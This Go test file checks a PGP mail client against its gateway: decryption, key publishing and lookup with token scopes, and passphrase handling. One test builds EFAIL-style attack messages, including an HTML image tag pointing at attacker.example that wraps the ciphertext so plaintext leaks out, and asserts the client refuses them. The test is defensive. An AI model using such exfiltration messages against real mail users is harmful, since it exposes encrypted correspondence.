package e2e

// Black-box tests of the sealmail binary with the real gateway: it
// decrypts what `sealgate serve` relays, publishes to and looks up in the
// directory `sealgate serve` runs, and refuses the EFAIL set as a process
// (exit status 2, nothing on stdout, one line on stderr).

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"mime"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"
)

var (
	sealmailOnce sync.Once
	sealmailPath string
	sealmailErr  error
)

// sealmailBin builds ./cmd/sealmail once, next to the sealgate binary (so
// TestMain's cleanup removes it).
func sealmailBin(t testing.TB) string {
	t.Helper()
	sealmailOnce.Do(func() {
		sealmailPath = filepath.Join(filepath.Dir(sealgateBin), "sealmail")
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "go", "build", "-o", sealmailPath, "./cmd/sealmail")
		cmd.Dir = ".."
		if out, err := cmd.CombinedOutput(); err != nil {
			sealmailErr = fmt.Errorf("go build ./cmd/sealmail: %v\n%s", err, out)
		}
	})
	if sealmailErr != nil {
		t.Fatal(sealmailErr)
	}
	return sealmailPath
}

// sealmailHome runs `sealmail keygen` and returns the home, the
// passphrase file and the fingerprint it printed.
func sealmailHome(t testing.TB, address string) (home, passFile, fpr string) {
	t.Helper()
	dir := t.TempDir()
	home, passFile = filepath.Join(dir, "home"), filepath.Join(dir, "pass")
	if err := os.WriteFile(passFile, []byte("e2e passphrase\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := string(mustRun(t, cmdOpts{}, sealmailBin(t), "keygen", "--email", address, "--home", home, "--passphrase-file", passFile))
	line, _, _ := strings.Cut(out, "\n")
	fpr, ok := strings.CutPrefix(line, "fingerprint: ")
	if !ok || len(fpr) != 40 || !strings.Contains(out, "public key:  "+filepath.Join(home, "public.asc")) {
		t.Fatalf("keygen printed %q", out)
	}
	return home, passFile, fpr
}

// armorMessage armors binary OpenPGP data as a PGP MESSAGE.
func armorMessage(t testing.TB, bin []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w, err := armor.Encode(&out, "PGP MESSAGE", nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(bin); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return append(out.Bytes(), '\n')
}

func TestSealmailDecryptsGatewayMail(t *testing.T) {
	t.Parallel()
	home, pass, _ := sealmailHome(t, "alice@a.example")
	g := startGateway(t, "")
	g.importKeys(t, filepath.Join(home, "public.asc"))
	const marker = "PLAINMARKER-sealmail-e2e"
	orig := message([]string{"From: Sender <sender@corp.example>", "To: Alice <alice@a.example>",
		"Subject: Board minutes " + marker, "Date: Tue, 3 Nov 2026 10:00:00 +0000", "Message-ID: <e2e-sealmail@corp.example>",
		"X-Case-Number: 4711", "MIME-Version: 1.0", "Content-Type: text/plain; charset=utf-8; format=flowed",
		"Content-Transfer-Encoding: 8bit"}, "Grüße,", marker+" the minutes are attached in spirit.", ". dot line")
	if err := sendGo(g.smtpAddr, "sender@corp.example", []string{"alice@a.example"}, orig, nil); err != nil {
		t.Fatalf("send: %v\nlog:\n%s", err, g.log)
	}
	m := g.sink.wait(t, 1)[0]
	if bytes.Contains(m.raw, []byte(marker)) {
		t.Fatal("the marker travelled in clear")
	}
	r := execute(t, cmdOpts{stdin: m.data}, sealmailBin(t), "decrypt", "--home", home, "--passphrase-file", pass)
	if r.code != 0 || string(r.stderr) != "sealmail: signature: none\n" {
		t.Fatalf("decrypt: exit %d, stderr %q", r.code, r.stderr)
	}
	oh, ob := splitEntity(t, orig)
	dh, db := splitEntity(t, r.stdout)
	if !bytes.Equal(db, ob) {
		t.Errorf("body %q, want %q", db, ob)
	}
	fields := headerFields(dh)
	if fields[0] != "X-Sealmail-Signature: none\r\n" {
		t.Errorf("first field %q", fields[0])
	}
	for _, f := range headerFields(oh) {
		if strings.HasPrefix(f, "Content-Type:") {
			continue
		}
		if !bytes.Contains(dh, []byte(f)) {
			t.Errorf("restored header lacks %q:\n%s", f, dh)
		}
	}
	for _, f := range fields {
		switch {
		case strings.HasPrefix(f, "Subject: ...") || strings.HasPrefix(strings.ToLower(f), "hp-outer"):
			t.Errorf("outer or HP-Outer field %q in the output", f)
		case strings.HasPrefix(f, "Content-Type:"):
			mt, params, err := mime.ParseMediaType(strings.TrimSpace(f[len("Content-Type:"):]))
			if err != nil || mt != "text/plain" || params["charset"] != "utf-8" || params["format"] != "flowed" || params["hp"] != "" {
				t.Errorf("Content-Type %q", f)
			}
		}
	}
}

// directoryTLS writes a CA and a server certificate for 127.0.0.1,
// example.com and openpgpkey.example.com; it returns the three files.
func directoryTLS(t testing.TB) (certFile, keyFile, caFile string) {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "e2e directory CA"}, IsCA: true,
		BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ = x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "example.com"},
		DNSNames: []string{"example.com", "openpgpkey.example.com"}, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, leaf, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, _ := x509.MarshalECPrivateKey(key)
	return writeTemp(t, "server.pem", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})),
		writeTemp(t, "server.key", pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER})),
		writeTemp(t, "ca.pem", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}))
}

// waitTLS waits until addr completes a TLS handshake.
func waitTLS(t testing.TB, addr, caFile string) {
	t.Helper()
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(mustRead(t, caFile)))
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		c, err := tls.DialWithDialer(&net.Dialer{Timeout: time.Second}, "tcp", addr, &tls.Config{RootCAs: pool, ServerName: "example.com"})
		if err == nil {
			c.Close()
			return
		}
	}
	t.Fatalf("no TLS on %s", addr)
}

func mustRead(t testing.TB, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestSealmailPublishAndLookup: keygen, publish with the admin API of the
// real directory (token from `sealgate tokens create`), then find the key
// over WKD, advanced and direct, as a mail client would.
func TestSealmailPublishAndLookup(t *testing.T) {
	t.Parallel()
	certFile, keyFile, caFile := directoryTLS(t)
	g := startGateway(t, fmt.Sprintf("tls_cert = %q\ntls_key = %q\n\n[directory]\ndomains = [\"example.com\"]\n", certFile, keyFile))
	waitTLS(t, g.httpAddr, caFile)
	token := func(scope string) string {
		out := mustRun(t, cmdOpts{}, sealgateBin, "tokens", "create", "--name", "sealmail-"+scope, "--scope", scope, "--config", g.config)
		return writeTemp(t, "token-"+scope, bytes.TrimSpace(out))
	}
	home, _, fpr := sealmailHome(t, "alice@example.com")
	url := "https://" + g.httpAddr
	publish := func(extra ...string) result {
		args := append([]string{"publish", "--directory", url, "--home", home, "--ca-file", caFile}, extra...)
		return execute(t, cmdOpts{}, sealmailBin(t), args...)
	}
	for name, tt := range map[string]struct {
		args []string
		want string
	}{
		"no token":   {nil, "401"},
		"read token": {[]string{"--token-file", token("read")}, "403"},
	} {
		if r := publish(tt.args...); r.code != 1 || len(r.stdout) != 0 || !strings.Contains(string(r.stderr), tt.want) {
			t.Errorf("%s: exit %d, stdout %q, stderr %q; want exit 1 and %s", name, r.code, r.stdout, r.stderr, tt.want)
		}
	}
	r := publish("--token-file", token("write"))
	if r.code != 0 || string(r.stdout) != "published "+fpr+" alice@example.com\n" {
		t.Fatalf("publish: exit %d, stdout %q, stderr %q\nlog:\n%s", r.code, r.stdout, r.stderr, g.log)
	}
	for method, resolve := range map[string]string{
		"advanced": "openpgpkey.example.com=" + g.httpAddr + ",example.com=" + g.httpAddr,
		"direct":   "example.com=" + g.httpAddr,
	} {
		r := execute(t, cmdOpts{env: []string{"SEALMAIL_TEST_RESOLVE=" + resolve}}, sealmailBin(t),
			"lookup", "alice@example.com", "--ca-file", caFile)
		if r.code != 0 || string(r.stdout) != fpr+"\n  uid  <alice@example.com>\n" {
			t.Errorf("lookup (%s): exit %d, stdout %q, stderr %q", method, r.code, r.stdout, r.stderr)
		}
	}
}

// TestSealmailRefusesBlackBox: the EFAIL set against the binary, inputs
// made by GnuPG: a SED message (gpg --rfc2440 --disable-mdc), one flipped
// ciphertext byte, a truncated message, the encrypted part beside HTML.
func TestSealmailRefusesBlackBox(t *testing.T) {
	t.Parallel()
	home, pass, _ := sealmailHome(t, "alice@a.example")
	gh := newGPGHome(t)
	gpg(t, gh, nil, "--import", filepath.Join(home, "public.asc"))
	entity := []byte("Content-Type: text/plain\r\n\r\nthe secret\r\n")
	encrypt := func(extra ...string) []byte {
		args := append([]string{"--trust-model", "always", "--armor", "-r", "alice@a.example"}, extra...)
		return gpg(t, gh, entity, append(args, "--encrypt")...)
	}
	wrap := func(armored []byte) []byte {
		return []byte("From: bob@b.example\r\nTo: alice@a.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"\r\n\r\n" +
			"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n" +
			"--b\r\nContent-Type: application/octet-stream\r\n\r\n" + string(armored) + "\r\n--b--\r\n")
	}
	good := encrypt()
	bin := gpg(t, gh, good, "--dearmor")
	flipped := bytes.Clone(bin)
	flipped[len(flipped)-20] ^= 0x04
	run := func(msg []byte) result {
		return execute(t, cmdOpts{stdin: msg}, sealmailBin(t), "decrypt", "--home", home, "--passphrase-file", pass)
	}
	if r := run(wrap(good)); r.code != 0 || !bytes.Contains(r.stdout, []byte("the secret")) {
		t.Fatalf("the good message: exit %d, stderr %q", r.code, r.stderr)
	}
	goodMsg := wrap(good)
	cases := map[string][]byte{
		"SED (gpg --rfc2440 --disable-mdc)": wrap(encrypt("--rfc2440", "--cipher-algo", "AES256", "--disable-mdc")),
		"one flipped ciphertext byte":       wrap(armorMessage(t, flipped)),
		"truncated":                         goodMsg[:len(goodMsg)*2/3],
		"beside HTML": []byte("From: bob@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n" +
			"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--m\r\n" +
			string(goodMsg[bytes.Index(goodMsg, []byte("Content-Type: multipart/encrypted")):]) +
			"\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"),
	}
	for name, msg := range cases {
		r := run(msg)
		if r.code != 2 || len(r.stdout) != 0 || string(r.stderr) != "sealmail: message cannot be decrypted\n" {
			t.Errorf("%s: exit %d, %d bytes on stdout, stderr %q", name, r.code, len(r.stdout), r.stderr)
		}
	}
}

// TestSealmailNoTerminalNoPassphrase: without --passphrase-file and with
// no controlling terminal, decrypt says so at once instead of waiting.
func TestSealmailNoTerminalNoPassphrase(t *testing.T) {
	t.Parallel()
	home, _, _ := sealmailHome(t, "alice@a.example")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, sealmailBin(t), "decrypt", "--home", home)
	cmd.Stdin = strings.NewReader("From: x\r\n\r\n")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true} // no controlling terminal
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	if ctx.Err() != nil || cmd.ProcessState.ExitCode() != 1 || stdout.Len() != 0 ||
		stderr.String() != "sealmail: no passphrase: no terminal to ask on; use --passphrase-file FILE\n" {
		t.Errorf("exit %v, stdout %q, stderr %q", err, stdout.String(), stderr.String())
	}
}
